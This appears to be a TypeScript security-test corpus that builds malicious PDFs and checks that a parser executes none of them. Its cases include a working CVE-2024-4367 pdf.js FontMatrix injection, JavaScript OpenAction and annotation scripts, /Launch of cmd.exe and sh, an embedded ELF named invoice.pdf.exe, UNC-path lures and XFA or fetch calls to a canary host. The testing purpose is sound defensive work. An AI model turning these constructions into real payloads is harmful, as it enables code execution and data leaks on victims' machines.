/**
 * PDFs that carry code or reach out: the CVE-2024-4367 FontMatrix injection, JavaScript in
 * OpenAction, name trees and annotations, /Launch, embedded executables, XFA forms and the
 * phone-home actions that jonaslejon/malicious-pdf generates. Every payload would create
 * `markerPath` or request `canaryUrl` if it ever ran; the test asserts neither happens.
 */
import { DAMAGED, type HostileCase, type HostileContext, seededBytes } from "./corpus-types.ts";
import { concatBytes, latin1, pagePdf, pdfString, textOps } from "./pdf-writer.ts";

const family = "active-content";

/** JavaScript that leaves a trace in the file system and on the canary if executed anywhere. */
const payload = (context: HostileContext, tag: string): string =>
  `try{globalThis.__secondroundPwned=1;process.getBuiltinModule("fs").writeFileSync(${JSON.stringify(context.markerPath)},"${tag}")}catch(e){};try{fetch("${context.canaryUrl}/${tag}")}catch(e){}`;

// ---- a minimal, genuinely eexec-encrypted Type1 font (so pdf.js parses it like the PoC's CMBX12) ----

function type1Encrypt(plain: Uint8Array, key: number, leading: Uint8Array): Uint8Array {
  const input = concatBytes([leading, plain]);
  const out = new Uint8Array(input.length);
  let r = key;
  for (let i = 0; i < input.length; i++) {
    const c = (input[i] as number) ^ (r >> 8);
    out[i] = c;
    r = ((c + r) * 52845 + 22719) & 0xffff;
  }
  return out;
}

function charstring(ops: number[]): Uint8Array {
  return type1Encrypt(new Uint8Array(ops), 4330, new Uint8Array(4));
}

/** Type1 charstring number encoding (-1131..1131 is enough here). */
function n(value: number): number[] {
  if (value >= -107 && value <= 107) return [value + 139];
  if (value >= 108 && value <= 1131) return [247 + ((value - 108) >> 8), (value - 108) & 0xff];
  return [251 + ((-value - 108) >> 8), (-value - 108) & 0xff];
}

export function type1Font(fontMatrix = "[0.001 0 0 0.001 0 0]"): { data: Uint8Array; dict: string } {
  const clear = latin1(
    "%!PS-AdobeFont-1.0: HostileFont 001.000\n12 dict begin\n/FontName /HostileFont def\n/PaintType 0 def\n/FontType 1 def\n" +
      `/FontMatrix ${fontMatrix} readonly def\n/FontBBox {0 0 1000 1000} readonly def\n` +
      "/Encoding 256 array 0 1 255 {1 index exch /.notdef put} for dup 70 /F put readonly def\ncurrentfile eexec\n",
  );
  const notdef = charstring([...n(0), ...n(500), 13, 14]);
  const glyphF = charstring([
    ...[...n(0), ...n(500), 13],
    ...[...n(100), ...n(0), 21],
    ...[...n(0), ...n(700), 5],
    ...[...n(300), ...n(0), 5],
    ...[...n(0), ...n(-100), 5],
    9,
    14,
  ]);
  const priv = concatBytes([
    "dup /Private 8 dict dup begin\n/RD {string currentfile exch readstring pop} executeonly def\n" +
      "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n/MinFeature {16 16} def\n" +
      "/password 5839 def\n/BlueValues [] def\n/Subrs 0 array\nND\n2 index /CharStrings 2 dict dup begin\n" +
      `/.notdef ${notdef.length} RD `,
    notdef,
    ` ND\n/F ${glyphF.length} RD `,
    glyphF,
    " ND\nend\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n",
  ]);
  const encrypted = type1Encrypt(priv, 55665, seededBytes(4367, 4));
  const trailer = latin1(`${`${"0".repeat(64)}\n`.repeat(8)}cleartomark\n`);
  return {
    data: concatBytes([clear, encrypted, trailer]),
    dict: `/Length1 ${clear.length} /Length2 ${encrypted.length} /Length3 ${trailer.length}`,
  };
}

/** CVE-2024-4367 (GHSA-wgrm-67xf-hhpq): a FontMatrix entry that is a string breaking out of c.transform(). */
function cve20244367(context: HostileContext, embedded: boolean): Uint8Array {
  const injected = `[1 2 3 4 5 ${pdfString(`1); ${payload(context, "cve-2024-4367")}; //`)}]`;
  const font = type1Font();
  const descriptor = `<< /Type /FontDescriptor /FontName /HostileFont /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 1000 /Descent 0 /CapHeight 700 /StemV 80 ${embedded ? "/FontFile 7 0 R" : ""} >>`;
  return pagePdf({
    font: `<< /Type /Font /Subtype /Type1 /BaseFont /HostileFont /FontDescriptor 6 0 R /FontMatrix ${injected} >>`,
    // Render mode 7 (clip) as in the public PoC, then visible text with the same font.
    content: "BT 7 Tr 10 20 Td /F1 20 Tf (F) Tj ET BT 0 Tr /F1 24 Tf 72 720 Td (FFF) Tj ET",
    extra: embedded ? [descriptor, { dict: font.dict, data: font.data }] : [descriptor],
  });
}

const canaryAction = (context: HostileContext, tag: string, action: string): string =>
  action.replaceAll("@CANARY@", `${context.canaryUrl}/${tag}`);

/** One visible line of text plus a link annotation over the page running `action`. */
const withAnnotAction = (context: HostileContext, tag: string, action: string): Uint8Array =>
  pagePdf({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${canaryAction(context, tag, action)} >>]`,
  });

const expectText = (reading: { ok: boolean; text?: string }): void => {
  if (reading.ok && !reading.text?.includes("Jane Doe"))
    throw new Error("the visible text was not extracted");
};

const elfBytes = (): Uint8Array =>
  concatBytes([new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), seededBytes(7, 4096)]);

export const activeContent: readonly HostileCase[] = [
  {
    family,
    name: "CVE-2024-4367 PoC: embedded Type1 font, FontMatrix string payload",
    expect: DAMAGED,
    build: (c) => cve20244367(c, true),
  },
  {
    family,
    name: "CVE-2024-4367 variant: non-embedded Type1 font, same FontMatrix",
    expect: DAMAGED,
    build: (c) => cve20244367(c, false),
  },
  {
    family,
    name: "/OpenAction /JavaScript writing a file and fetching the canary",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({ catalog: `/OpenAction << /S /JavaScript /JS ${pdfString(payload(c, "openaction"))} >>` }),
  },
  {
    family,
    name: "/Names /JavaScript name tree (document-level scripts)",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        catalog: "/Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
        extra: [`<< /S /JavaScript /JS 7 0 R >>`, { dict: "", data: payload(c, "names-js") }],
      }),
  },
  {
    family,
    name: "page /AA open, close and visible triggers with JavaScript",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        page: `/AA << /O << /S /JavaScript /JS ${pdfString(payload(c, "aa-open"))} >> /C << /S /JavaScript /JS ${pdfString(payload(c, "aa-close"))} >> >>`,
      }),
  },
  {
    family,
    name: "/Launch action: cmd.exe with arguments, and a /Launch of a URL",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        catalog: `/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) /O /open >> /Unix (/bin/sh -c 'touch ${c.markerPath}') >>`,
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F << /Type /FileSpec /F (${c.canaryUrl}/launch) /FS /URL >> /NewWindow false >> >>]`,
      }),
  },
  {
    family,
    name: "embedded ELF file plus a /Launch of the attachment",
    expect: ["ok"],
    verify: expectText,
    build: () =>
      pagePdf({
        catalog:
          "/Names << /EmbeddedFiles << /Names [(invoice.pdf.exe) 6 0 R] >> >> /OpenAction << /S /Launch /F 6 0 R /NewWindow true >>",
        extra: [
          "<< /Type /Filespec /F (invoice.pdf.exe) /UF (invoice.pdf.exe) /EF << /F 7 0 R >> >>",
          { dict: "/Type /EmbeddedFile /Subtype /application#2Foctet-stream", data: elfBytes() },
        ],
      }),
  },
  {
    family,
    name: "malicious-pdf test1: /GoToE to a UNC path (CVE-2018-4993)",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        page: `/AA << /O << /S /GoToE /F (\\\\\\\\127.0.0.1\\\\share\\\\x) /D [0 /Fit] >> >>`,
        trailer: `/Info << /Title (${c.canaryUrl}) >>`,
      }),
  },
  {
    family,
    name: "malicious-pdf test1_1/5/7: /GoToE, /URI and /GoToR to the canary",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        page: `/AA << /O << /S /GoToE /F (${c.canaryUrl}/gotoe) /D [0 /Fit] >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 400] /A << /S /URI /URI (${c.canaryUrl}/uri) >> >> << /Type /Annot /Subtype /Link /Rect [0 400 612 792] /A << /S /GoToR /F << /Type /FileSpec /F (${c.canaryUrl}/gotor.pdf) /V true /FS /URL >> /D [0 /Fit] >> >>]`,
      }),
  },
  {
    family,
    name: "malicious-pdf test8/9/21: /SubmitForm and /ImportData to the canary",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        catalog: `/AcroForm << /Fields [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 10 10] >>] >> /OpenAction << /S /SubmitForm /F << /Type /FileSpec /F (${c.canaryUrl}/submit) /V true /FS /URL >> /Flags 256 >>`,
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /ImportData /F << /Type /FileSpec /F (${c.canaryUrl}/import) /V true /FS /URL >> >> >>]`,
      }),
  },
  {
    family,
    name: "malicious-pdf test2/12: XFA form with submit and FormCalc Post()",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        catalog:
          "/AcroForm << /Fields [<< /T (0) /Kids [<< /Subtype /Widget /Rect [0 0 0 0] /T () /FT /Btn >>] >>] /XFA 6 0 R /NeedsRendering true >>",
        extra: [
          {
            dict: "",
            data: `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config><present><pdf><interactive>1</interactive></pdf></present></config><template><subform name="_"><pageSet/><field id="x"><event activity="docReady" ref="$host"><submit textEncoding="UTF-16" xdpContent="pdf datasets xfdf" target="${c.canaryUrl}/xfa"/></event><event activity="initialize"><script contentType="application/x-formcalc">Post("${c.canaryUrl}/formcalc", "x")</script></event><event activity="ready"><script contentType="application/x-javascript">${payload(c, "xfa-js").replace(/[<&]/g, " ")}</script></event></field></subform></template></xdp:xdp>`,
          },
        ],
      }),
  },
  {
    family,
    name: "malicious-pdf test4: XFA with an external XSLT stylesheet (CVE-2019-7089)",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
        extra: [
          {
            dict: "",
            data: `<?xml version="1.0" ?>\n<?xml-stylesheet href="${c.canaryUrl}/whatever.xslt" type="text/xsl" ?>\n<?xml-stylesheet href="\\\\127.0.0.1\\share\\whatever.xslt" type="text/xsl" ?>\n`,
          },
        ],
      }),
  },
  {
    family,
    name: "malicious-pdf test30: image XObject whose data is a remote /FS /URL file",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      pagePdf({
        content: `q 100 0 0 100 0 0 cm /Im1 Do Q ${textOps("Jane Doe")}`,
        resources: "/XObject << /Im1 6 0 R >>",
        extra: [
          {
            dict: `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${c.canaryUrl}/xobject) >>`,
            data: "",
          },
        ],
      }),
  },
  {
    family,
    name: "malicious-pdf test31/19/26: /Thread action and /AA /PV /E JavaScript",
    expect: ["ok"],
    verify: expectText,
    build: (c) =>
      withAnnotAction(
        c,
        "thread",
        `<< /S /Thread /F << /Type /FileSpec /F (@CANARY@) /FS /URL >> /D 0 /Next << /S /JavaScript /JS ${pdfString(payload(c, "next"))} >> >> /AA << /PV << /S /JavaScript /JS ${pdfString(payload(c, "pv"))} >> /E << /S /JavaScript /JS ${pdfString(payload(c, "e"))} >> >>`,
      ),
  },
  {
    family,
    name: "malicious-pdf test33: fetch, XMLHttpRequest, WebSocket and Image from a widget",
    expect: ["ok"],
    verify: expectText,
    build: (c) => {
      const js = `fetch("${c.canaryUrl}/fetch");var x=new XMLHttpRequest();x.open("GET","${c.canaryUrl}/xhr");x.send();new WebSocket("${c.canaryUrl.replace("http", "ws")}/ws");(new Image()).src="${c.canaryUrl}/img";app.launchURL("${c.canaryUrl}/launchurl");this.submitForm({cURL:"${c.canaryUrl}/submitform",cSubmitAs:"PDF"})`;
      return pagePdf({
        catalog: "/AcroForm << /Fields [7 0 R] >>",
        page: "/Annots [7 0 R]",
        extra: [
          `<< /S /JavaScript /JS ${pdfString(js)} >>`,
          "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 612 792] /A 6 0 R /AA << /PO 6 0 R /Fo 6 0 R >> >>",
        ],
      });
    },
  },
  {
    family,
    name: "malicious-pdf test3 shape: trailer-only PDF with an inline /OpenAction script",
    expect: DAMAGED,
    build: (c) =>
      latin1(
        `%PDF-1.4\n1 0 obj\n<<>>\n%endobj\ntrailer\n<<\n/Root\n  <</Pages <<>>\n  /OpenAction\n      <<\n      /S/JavaScript\n      /JS(\n      eval(\n          'app.openDoc({cPath: encodeURI("${c.canaryUrl}/test3"), cFS: "CHTTP" });'\n          );\n      )\n      >>\n  >>\n>>`,
      ),
  },
];
